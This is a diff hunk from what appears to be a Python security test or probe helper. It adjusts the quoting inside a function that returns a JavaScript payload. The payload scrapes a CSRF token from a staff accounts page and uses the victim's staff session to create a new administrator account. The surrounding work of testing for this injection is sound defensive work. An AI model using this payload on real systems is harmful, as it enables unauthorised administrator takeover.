@@ -54,7 +54,7 @@ def take_over_script(username: str) -> str:
     """What the probe's script did: make a new administrator with the reader's staff session."""
     return (
         "(async()=>{const p=await(await fetch('/staff/accounts')).text();"
-        "const t=p.match(/name=\"csrf_token\" value=\"([^\"]*)\"/)[1];"
+        'const t=p.match(/name="csrf_token" value="([^"]*)"/)[1];'
         f"const f=new URLSearchParams({{csrf_token:t,username:'{username}',"
         "password:'taken-over-by-a-wav-file',display_name:'x',roles:'admin'});"
         "await fetch('/staff/accounts',{method:'POST',body:f});document.title='taken';})()"
